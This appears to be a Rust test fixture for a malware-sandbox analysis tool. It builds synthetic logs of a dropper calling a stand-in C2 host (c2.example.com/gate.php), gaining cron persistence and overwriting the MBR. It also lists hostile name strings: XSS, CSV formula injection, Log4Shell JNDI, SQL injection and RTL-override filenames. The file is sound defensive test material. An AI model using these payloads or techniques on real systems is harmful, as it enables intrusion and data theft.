//! Sessions to export: an attack, a hostile guest that chooses every name, and a clean one.

#[path = "../../../lava-graph/tests/common/mod.rs"]
#[allow(dead_code, unreachable_pub)]
mod log;

use lava_analysis::Analysis;
use lava_event::*;
use lava_evidence::{Manifest, Outcome, Session, SessionWriter, State, TaskFacts};
use log::{Log, TASK, file, text};

const DROPPER: &str = "/tmp/.x/dropper";

/// The validator's words; a panic with them if it refuses.
#[allow(dead_code)]
pub fn judge(validator: &str, file: &std::path::Path) -> String {
    let python = std::env::var_os("LAVA_TEST_VALIDATORS").unwrap_or_else(|| {
        panic!(
            "LAVA_TEST_VALIDATORS is not set: run `cargo xtask test`, or set it to what `cargo xtask validators` prints"
        )
    });
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/validators/{validator}.py"));
    let output = std::process::Command::new(python).arg(&script).arg(file).output().unwrap();
    let (out, err) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success(), "{} of {}: {out}\n{err}", script.display(), file.display());
    assert!(out.starts_with("valid: "), "{out}");
    out.into_owned()
}

/// Writes the log as a live session does, with what the detectors say of it.
pub fn record(name: &str, events: &[Event]) -> (tempfile::TempDir, Session) {
    record_kept(name, events, &[])
}

/// The same, with artifacts.
pub fn record_kept(name: &str, events: &[Event], artifacts: &[Artifact]) -> (tempfile::TempDir, Session) {
    let out = tempfile::tempdir().unwrap();
    let id = SessionId("01M88QMT0DFH6PE5AV4DAJ3987".into());
    let task = TaskFacts { name: name.into(), sha256: Sha256::of(b"task"), size: 4 };
    let mut manifest = Manifest::new(id.clone(), "0.1.0", task, "applet", "2026-11-25T06:52:44.429224634Z");
    manifest.image.kernel = "6.1.0-56-cloud-amd64".into();
    manifest.policy.name = "observe".into();
    manifest.host = "analyst's <host>".into();
    let mut writer = SessionWriter::create(out.path(), &id, manifest).unwrap();
    let mut analysis = Analysis::new();
    for event in events {
        let artifacts = if event.seq == 1 { artifacts.to_vec() } else { vec![] };
        writer.event(&Produced { event: event.clone(), artifacts }).unwrap();
        for finding in analysis.observe(event).findings {
            writer.finding(&finding).unwrap();
        }
    }
    let outcome =
        Outcome { state: State::Closed, ended: "2026-11-25T06:53:07.275368918Z".into(), ..Outcome::default() };
    let session = writer.close(&analysis.graph().trace(), outcome).unwrap();
    (out, session)
}

fn end(address: [u8; 4], port: u16) -> NetEndpoint {
    NetEndpoint { address: address.into(), port }
}

/// What a task does with one name: as a file, a program, an argument, a module, a question.
fn everything(log: &mut Log, pid: u32, exe: &str, name: &GuestText, n: u64) {
    let path = |folder: &str| GuestText::from([folder.as_bytes(), name.bytes()].concat());
    let made = file(9000 + n, 0o100_755);
    let kinds = [
        Kind::FileCreate { path: path("/tmp/"), file: Some(made), what: FileType::Regular, target: Some(name.clone()) },
        Kind::FileWrite { path: path("/tmp/"), file: made, ranges: vec![], bytes: 9, count: 1 },
        Kind::FileContent {
            path: path("/tmp/"),
            file: made,
            sha256: Sha256::of(&n.to_le_bytes()),
            kept: 8,
            complete: true,
        },
        Kind::FileRename { from: path("/tmp/"), to: path("/etc/cron.d/"), file: made },
        Kind::ProcessExec {
            path: path("/etc/cron.d/"),
            argv: vec![name.clone(), name.clone()],
            envp: vec![name.clone()],
            truncated: false,
            cwd: path("/"),
            file: made,
            interpreter: Some(name.clone()),
        },
        Kind::ProcessName { old: name.clone(), new: name.clone() },
        Kind::NetConnect { protocol: Protocol::Unix, destination: None, path: Some(name.clone()) },
        Kind::KernelModuleLoad { name: name.clone(), path: Some(path("/lib/")), address: 1, size: 1 },
        Kind::NetLease { address: [10, 0, 0, 2].into(), host_name: Some(name.clone()), frame: 1 },
        Kind::NetDns {
            protocol: Protocol::Udp,
            origin: end([10, 77, 0, 15], 5353),
            question: name.clone(),
            qtype: 1,
            addresses: vec![[198, 18, 0, 5].into()],
            frame: 2,
        },
        Kind::NetHttp {
            origin: end([10, 77, 0, 15], 40_001),
            destination: end([198, 18, 0, 5], 8443),
            tls: true,
            method: name.clone(),
            host: name.clone(),
            path: name.clone(),
            user_agent: Some(name.clone()),
            content_type: Some(name.clone()),
            status: 404,
            answer: "default".into(),
            response_type: "text/html".into(),
            request_bytes: u64::MAX,
            request_sha256: Some(Sha256::of(name.bytes())),
            request_complete: false,
            response_bytes: 9,
            response_sha256: Some(Sha256::of(b"answer")),
            frame: 4,
        },
        Kind::NetTls {
            origin: end([10, 77, 0, 15], 40_001),
            destination: end([198, 18, 0, 5], 8443),
            server_name: Some(name.clone()),
            alpn: vec![name.clone()],
            version: String::new(),
            ja3: String::new(),
            ja4: String::new(),
            outcome: "the guest does not trust us".into(),
            frame: 5,
        },
        Kind::NetMail {
            origin: end([10, 77, 0, 15], 40_002),
            destination: end([198, 18, 0, 6], 25),
            from: name.clone(),
            to: vec![name.clone()],
            receivers: 1,
            subject: Some(name.clone()),
            bytes: 100,
            sha256: Some(Sha256::of(b"mail")),
            complete: true,
            frame: 6,
        },
        Kind::FileUnlink { path: path("/etc/cron.d/"), file: made },
    ];
    for kind in kinds {
        log.act(pid, exe, kind);
        if let Some(Event { process: Some(process), .. }) = log.0.last_mut() {
            process.comm = name.clone();
            process.exe = path("/usr/bin/");
        }
    }
}

/// What the dropper says to the simulated Internet.
fn calls_home(log: &mut Log) {
    let (origin, web) = (end([10, 77, 0, 15], 40_010), end([198, 18, 0, 5], 443));
    let ask = |method: &str, host: &str, path: &str, status| Kind::NetHttp {
        origin,
        destination: web,
        tls: true,
        method: method.into(),
        host: host.into(),
        path: path.into(),
        user_agent: Some(text("beacon/1.0")),
        content_type: None,
        status,
        answer: "default".into(),
        response_type: "text/html".into(),
        request_bytes: 12,
        request_sha256: Some(Sha256::of(b"stolen")),
        request_complete: true,
        response_bytes: 40,
        response_sha256: Some(Sha256::of(b"page")),
        frame: 20,
    };
    for kind in [
        Kind::NetTls {
            origin,
            destination: web,
            server_name: Some(text("c2.example.com")),
            alpn: vec![text("h2"), text("http/1.1")],
            version: "TLSv1.3".into(),
            ja3: "e7d705a3286e19ea42f587b344ee6865".into(),
            ja4: "t13d1516h2_8daaf6152771_e5627efa2ab1".into(),
            outcome: "established".into(),
            frame: 19,
        },
        ask("POST", "c2.example.com", "/gate.php?id=7", 200),
        ask("GET", "198.18.0.5", "/", 0),
        ask("GET", "203.0.113.7", "/it's \\", 200),
        Kind::NetStream {
            protocol: Protocol::Tcp,
            origin,
            destination: web,
            application: "http".into(),
            sent: 900,
            received: 1000,
            sent_sha256: None,
            received_sha256: None,
            complete: true,
            ended: "guest".into(),
            frame: 18,
        },
        Kind::NetMail {
            origin: end([10, 77, 0, 15], 40_011),
            destination: end([198, 18, 0, 6], 25),
            from: text("bot@example.com"),
            to: vec![text("a@example.org"), text("not an address")],
            receivers: 2,
            subject: Some(text("invoice")),
            bytes: 100,
            sha256: Some(Sha256::of(b"mail")),
            complete: true,
            frame: 30,
        },
    ] {
        log.act(201, DROPPER, kind);
    }
}

/// The drive-by, which also calls home.
pub fn attack() -> Vec<Event> {
    let mut log = Log(log::drive_by());
    let dropper = file(50, 0o100_755);
    let content = Sha256::of(b"dropper");
    let origin = end([10, 77, 0, 15], 40_000);
    let remote = end([203, 0, 113, 7], 443);
    for kind in [
        Kind::FileContent { path: text(DROPPER), file: dropper, sha256: content, kept: 7, complete: true },
        Kind::NetFlowOwner { protocol: Protocol::Udp, origin, destination: end([10, 77, 0, 1], 53) },
    ] {
        log.act(201, DROPPER, kind);
    }
    let addresses = vec![[198, 18, 0, 5].into()];
    let question = text("c2.example.com");
    log.raw(None, Kind::NetDns { protocol: Protocol::Udp, origin, question, qtype: 1, addresses, frame: 3 });
    for destination in [end([198, 18, 0, 5], 80), remote] {
        log.act(201, DROPPER, Kind::NetConnect { protocol: Protocol::Tcp, destination: Some(destination), path: None });
    }
    log.act(
        201,
        DROPPER,
        Kind::NetTransfer {
            protocol: Protocol::Tcp,
            local: Some(origin),
            remote: Some(remote),
            path: None,
            socket: 7,
            peer: None,
            sent: 120,
            received: 4096,
            sends: 2,
            receives: 3,
        },
    );
    calls_home(&mut log);
    everything(&mut log, 202, "/usr/local/bin/helper", &text("plain"), 1);
    log.0
}

/// The attack, with what it dropped and wrote to the boot code.
#[allow(dead_code)]
pub fn attack_kept() -> (Vec<Event>, Vec<Artifact>) {
    let mut log = Log(attack());
    let dropper = Artifact::new(b"\x7fELF ...runc2.example.com/etc/cron.d/updatemain...");
    let boot = Artifact::new(&[0x90; 440]);
    let content = Kind::FileContent {
        path: text(DROPPER),
        file: file(50, 0o100_755),
        sha256: dropper.sha256,
        kept: dropper.bytes.len() as u64,
        complete: true,
    };
    log.act(201, DROPPER, content);
    let ranges = vec![Range { start: 0, end: 440 }];
    let (changed, after) = (ranges.clone(), Some(boot.sha256));
    let (disk, region) = ("vda".into(), DiskRegion::MbrBootCode);
    let write = Kind::DiskWrite { disk, region, ranges, bytes: 440, count: 1, changed, before: None, after };
    log.raw(None, write);
    (log.0, vec![dropper, boot])
}

/// Names that were chosen to do harm, in some format or another.
pub fn evil_names() -> Vec<GuestText> {
    let long = "A".repeat(4096);
    let mut names: Vec<GuestText> = [
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\"quoted\", 'single'; semicolon",
        "evil\u{202e}gpj.exe",
        "\u{1b}[2Jclear\u{7}\u{9b}31m",
        "line\nbreak\r\nagain",
        "tab\there\u{b}",
        "CEF:0|pipe|\\|=|\\=",
        "] closing \"bracket\\",
        "${jndi:ldap://x/y}",
        "]]>&amp;&#0;<!--",
        "\u{fffe}\u{ffff}\u{feff}\u{200b}",
        "'; DROP TABLE x; --",
        "\\u0000 \\x41 \\",
        "-- x.",
        "\u{6587}\u{6863} \u{5d0}\u{5d1} \u{627}\u{644} \u{1f600} e\u{301} \u{e0041}.exe",
        "",
        " ",
        long.as_str(),
    ]
    .map(GuestText::from)
    .into();
    names.push(GuestText::from(b"\xff\xfe\x80 no UTF-8 \xc3".to_vec()));
    names.push(GuestText::from(b"nul\0byte".to_vec()));
    names
}

/// A guest that chooses every name it can.
pub fn hostile() -> Vec<Event> {
    let mut log = Log::task("/usr/bin/java", "/home/user/evil.jar");
    for (n, name) in evil_names().iter().enumerate() {
        everything(&mut log, TASK, "/usr/bin/java", name, n as u64);
    }
    log.0
}

/// A task that only reads what it was given.
pub fn clean() -> Vec<Event> {
    Log::task("/usr/bin/java", "/home/user/good.jar").0
}
